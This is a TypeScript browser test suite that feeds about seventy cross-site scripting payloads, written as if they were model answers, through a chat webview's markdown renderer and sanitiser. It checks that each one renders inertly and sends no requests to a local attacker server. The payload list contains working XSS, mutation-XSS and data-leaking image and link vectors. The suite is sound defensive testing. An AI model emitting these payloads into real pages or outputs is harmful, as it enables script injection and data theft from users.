/**
 * Model output is hostile input. Each payload is streamed as an answer through the real app (host
 * messages → incremental renderer → DOMPurify → DOM) in Chromium under the real CSP, then shown again
 * as a stored message, and its links are clicked. After each: the canary `window.__pwned` is unset, no
 * dialog opened, no CSP violation or console error happened, the DOM holds no active content, and a
 * loopback "attacker" server received no request at all.
 */
import assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { HostMessage } from '../../src/protocol/chatProtocol';
import { conversation, init, message } from './fixtures';
import { AppPage, startBrowser, type TestBrowser } from './harness';

/** `A` is replaced with the attacker server's origin. */
const PAYLOADS: Array<[string, string]> = [
  ['script tag', '<script>window.__pwned=1</script>'],
  ['script tag with src', '<script src="A/evil.js"></script>'],
  ['img onerror', '<img src=x onerror="window.__pwned=1">'],
  ['remote img tag', '<img src="A/img.png">'],
  ['img srcset', '<img srcset="A/srcset.png 1x">'],
  ['markdown image to attacker', '![x](A/leak?c=secret)'],
  ['reference-style image', '![x][img]\n\n[img]: A/refimg.png'],
  ['markdown image with javascript:', '![x](javascript:window.__pwned=1)'],
  ['markdown image with data: svg', '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiPg==)'],
  ['javascript: link', '[x](javascript:window.__pwned=1)'],
  ['mixed-case javascript: link', '[x](JaVaScRiPt:window.__pwned=1)'],
  ['entity-encoded javascript: link', '[x](&#106;avascript:window.__pwned=1)'],
  ['javascript&colon; link', '[click](javascript&colon;window.__pwned=1)'],
  ['angle-bracket javascript: link', '[x](<javascript:window.__pwned=1>)'],
  ['tab-split javascript: link', '[x](java\tscript:window.__pwned=1)'],
  ['data: html link', '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)'],
  ['vbscript: link', '[x](vbscript:msgbox(1))'],
  ['reference-style javascript: link', '[x][1]\n\n[1]: javascript:window.__pwned=1'],
  ['autolink to attacker', '<A/autolink>'],
  ['plain link to attacker', '[docs](A/link)'],
  ['raw anchor javascript:', '<a href="javascript:window.__pwned=1">click</a>'],
  ['raw anchor with entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">x</a>'],
  ['anchor with ping', '<a href="A/x" ping="A/ping">ping</a>'],
  ['svg onload', '<svg onload="window.__pwned=1"></svg>'],
  ['svg script', '<svg><script>window.__pwned=1</script></svg>'],
  ['svg xlink javascript', '<svg><a xlink:href="javascript:window.__pwned=1"><text x="0" y="15">x</text></a></svg>'],
  [
    'svg use data:',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image href=A/use.png /&gt;&lt;/svg&gt;#x"/></svg>',
  ],
  ['iframe to attacker', '<iframe src="A/frame"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'],
  ['iframe javascript:', '<iframe src="javascript:parent.__pwned=1"></iframe>'],
  ['object data', '<object data="A/obj"></object>'],
  ['object javascript:', '<object data="javascript:window.__pwned=1"></object>'],
  ['embed', '<embed src="A/embed">'],
  ['style @import', '<style>@import url(A/css);</style>'],
  ['style background', '<style>body{background:url(A/bg)}</style>'],
  ['style attribute', '<div style="background:url(A/style-attr)">x</div>'],
  ['overlay via style attribute', '<p style="position:fixed;inset:0;background:red">overlay</p>'],
  ['link stylesheet', '<link rel="stylesheet" href="A/link.css">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=A/meta">'],
  ['base href', '<base href="A/">\n\n[relative](page)'],
  ['form action', '<form action="A/form"><button>go</button></form>'],
  ['formaction', '<button formaction="javascript:window.__pwned=1">x</button>'],
  ['input autofocus onfocus', '<input autofocus onfocus="window.__pwned=1">'],
  ['details ontoggle', '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>'],
  ['video source onerror', '<video><source onerror="window.__pwned=1"></video>'],
  ['audio onerror', '<audio src=x onerror="window.__pwned=1"></audio>'],
  ['body onload', '<body onload="window.__pwned=1">'],
  ['custom element handler', '<x onmouseover="window.__pwned=1">hover</x>'],
  ['template script', '<template><script>window.__pwned=1</script></template>'],
  ['isindex', '<isindex action="javascript:window.__pwned=1" type=image>'],
  ['fake app button', '<a href="javascript:window.__pwned=1" class="button primary">Set API Key</a>'],
  ['mXSS: noscript title', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'],
  ['mXSS: svg p style', '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">'],
  ['mXSS: math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">'],
  ['mXSS: nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>'],
  ['mXSS: textarea in svg', '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__pwned=1 src=1>">'],
  ['html comment', '<!-- <img src=x onerror=window.__pwned=1> -->'],
  ['CDATA', '<![CDATA[<img src=x onerror=window.__pwned=1>]]>'],
  ['inline code', '`<script>window.__pwned=1</script>` and `<img src=x onerror=window.__pwned=1>`'],
  ['html fence', '```html\n<script>window.__pwned=1</script>\n<img src="A/fence.png">\n```'],
  ['nested fences', '````md\n```\n<img src=x onerror=window.__pwned=1>\n```\n````'],
  ['unclosed fence breaking out', '```\n</code></pre><img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>'],
  ['fence info string injection', '```"><img src=x onerror=window.__pwned=1>\ncode\n```'],
  ['fence language attribute injection', '```js onclick=window.__pwned=1 class=button\nlet x = 1;\n```'],
  ['entity-escaped script', '&lt;script&gt;window.__pwned=1&lt;/script&gt;'],
  ['backslash-escaped tags', '\\<script>window.__pwned=1\\</script>'],
  ['table cell html', '| a |\n|---|\n| <img src=x onerror=window.__pwned=1> |'],
  ['blockquote script', '> <script>window.__pwned=1</script>'],
  ['list iframe', '- <iframe src="A/li"></iframe>\n- two'],
  ['www autolink with html', 'www.example.com/<img src=x onerror=window.__pwned=1>'],
  ['unclosed tag at the end', 'text <img src="A/unclosed" onerror="window.__pwned=1"'],
  ['target blank link', '<a href="A/x" target="_blank">new window</a>'],
];

interface AttackerServer {
  origin: string;
  requests: string[];
  close(): Promise<void>;
}

async function startAttacker(): Promise<AttackerServer> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/plain' }).end('gotcha');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Elements and attributes that must never come out of model text. */
const FORBIDDEN =
  'script, iframe, object, embed, img, svg, math, style, link, meta, base, form, input, button:not(.icon-button):not(.button), textarea, video, audio, source, template, details:not(.thinking), x, isindex, noscript';

describe('webview XSS (Chromium)', function () {
  this.timeout(60_000);
  let tb: TestBrowser;
  let attacker: AttackerServer;
  let app: AppPage;

  before(async () => {
    tb = await startBrowser();
    attacker = await startAttacker();
  });
  after(async () => {
    await tb?.close();
    await attacker?.close();
  });
  beforeEach(async () => {
    app = await AppPage.open(tb);
    await app.page.waitForFunction(() => (window as unknown as { __posted: unknown[] }).__posted.length > 0);
  });
  afterEach(async () => {
    await app.close();
  });

  async function assertNothingHappened(): Promise<void> {
    // Give a meta refresh, a lazy load or a late handler a chance to fire.
    await app.page.waitForTimeout(100);
    await app.frames();
    assert.equal(await app.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, 'canary set');
    assert.deepEqual(app.dialogs, [], 'dialogs');
    assert.deepEqual(await app.cspViolations(), [], 'CSP violations');
    assert.deepEqual(app.problems, [], 'console problems');
    assert.deepEqual(attacker.requests, [], 'requests to the attacker');
    assert.ok(app.page.url().startsWith(tb.server.origin), `navigated to ${app.page.url()}`);
  }

  async function assertInertDom(): Promise<void> {
    const report = await app.page.evaluate((forbidden) => {
      const root = document.querySelector('[role="log"]')!;
      const bad = Array.from(root.querySelectorAll(forbidden)).map((el) => el.outerHTML.slice(0, 120));
      const handlers: string[] = [];
      const styles: string[] = [];
      const hrefs: string[] = [];
      for (const el of Array.from(root.querySelectorAll('*'))) {
        for (const attr of Array.from(el.attributes)) {
          if (attr.name.startsWith('on')) handlers.push(`${el.tagName} ${attr.name}`);
          if (attr.name === 'style') styles.push(el.tagName);
          if (['src', 'srcset', 'data', 'action', 'formaction', 'ping', 'xlink:href', 'background', 'poster'].includes(attr.name))
            handlers.push(`${el.tagName} ${attr.name}`);
        }
        const href = el.getAttribute('href');
        if (href !== null && !/^(https?:|mailto:)/i.test(href)) hrefs.push(href);
      }
      return { bad, handlers, styles, hrefs };
    }, FORBIDDEN);
    assert.deepEqual(report, { bad: [], handlers: [], styles: [], hrefs: [] });
  }

  for (const [name, template] of PAYLOADS) {
    it(`renders inertly: ${name}`, async () => {
      const payload = template.replace(/\bA\//g, `${attacker.origin}/`).replace(/<A\//g, `<${attacker.origin}/`);
      const text = `Before the payload.\n\n${payload}\n\nAfter the payload.`;
      await app.host(init({ active: conversation('c1', [message('user', 'hi')]) }));
      // Streamed in small deltas, so partial tags and open fences are rendered too.
      const answer = message('assistant', '', { status: 'streaming' });
      const deltas: HostMessage[] = [];
      for (let i = 0; i < text.length; i += 3)
        deltas.push({ type: 'streamDelta', conversationId: 'c1', messageId: answer.id, content: text.slice(i, i + 3) });
      await app.host({ type: 'streamStart', conversationId: 'c1', message: answer });
      for (let i = 0; i < deltas.length; i += 4) {
        await app.host(...deltas.slice(i, i + 4));
        await app.frames();
      }
      await app.host({ type: 'streamEnd', conversationId: 'c1', messageId: answer.id, status: 'done' });
      await app.frames();
      const content = app.page.locator('.message.assistant .message-content');
      assert.match((await content.textContent()) ?? '', /Before the payload\.[\s\S]*After the payload\./);
      await assertInertDom();

      // Click every link: none may navigate or run anything; http(s) ones are handed to the host.
      const links = content.locator('a');
      for (let i = 0; i < (await links.count()); i++) await links.nth(i).click({ force: true });
      const opened = await app.postedOfType('openLink');
      for (const m of opened) assert.match(m.href, /^https?:/);

      // The same text shown as a stored answer (the non-streaming path).
      await app.host({
        type: 'conversation',
        conversation: conversation('c1', [message('user', 'hi'), message('assistant', text, { status: 'done' })]),
      });
      await app.frames();
      await assertInertDom();
      await assertNothingHappened();
    });
  }

  it('has at least 50 payloads', () => {
    assert.ok(PAYLOADS.length >= 50, `${PAYLOADS.length}`);
  });

  it('shows hostile text in every other field as text', async () => {
    const evil = `<img src="${attacker.origin}/field" onerror="window.__pwned=1"><script>window.__pwned=1</script>`;
    const answer = message('assistant', 'ok', {
      status: 'error',
      reasoning: evil,
      toolCalls: [
        { index: 0, name: evil, arguments: evil },
        { index: 1, id: evil, name: evil, arguments: evil, state: 'waiting', summary: evil, output: evil },
      ],
      notes: [evil],
      error: { kind: 'server', status: 500, code: evil, message: evil, requestId: evil, retryable: true },
      usage: { promptTokens: 1, completionTokens: 1, cachedTokens: 0, cost: 0.1 },
    });
    await app.host(
      init({
        conversations: [{ id: 'c1', title: evil, model: evil, updatedAt: 1, messageCount: 2 }],
        models: [{ id: evil, name: evil, free: true }],
        chips: [{ id: 'k', label: evil, language: evil, code: evil }],
        active: conversation(
          'c1',
          [message('user', evil, { context: [{ id: 'k', label: evil, language: 'x', code: evil, mention: 'file', note: evil }] }), answer],
          {
            title: evil,
            model: evil,
          },
        ),
      }),
    );
    // The tool call's output, open; a mention suggestion and its chip.
    await app.page.locator('.tool-call summary').last().click();
    const box = app.page.getByRole('textbox', { name: 'Message' });
    await box.click();
    await box.pressSequentially('@');
    const request = await app.waitForPosted('mentions');
    await app.host({
      type: 'reply',
      requestId: request.requestId,
      ok: true,
      result: [{ kind: 'file', path: evil, label: evil, detail: evil }],
    });
    await app.page.getByRole('option').first().waitFor();
    assert.equal(await app.page.getByRole('option').first().textContent(), `${evil} ${evil}`);
    await box.press('Enter');
    await app.page.getByRole('button', { name: 'History' }).click();
    await app.page.getByRole('combobox', { name: 'Model' }).click();
    await app.frames();
    assert.equal(await app.page.locator('.tool-call-output').textContent(), evil);
    assert.equal(await app.page.locator('.message-note').textContent(), evil);
    assert.equal(await app.page.locator('.history-title').first().textContent(), evil);
    assert.equal(await app.page.locator('.message.user .message-text').textContent(), evil);
    assert.equal(await app.page.evaluate(() => document.querySelectorAll('img, script:not([src$=".js"])').length), 0);
    await assertNothingHappened();
  });
});
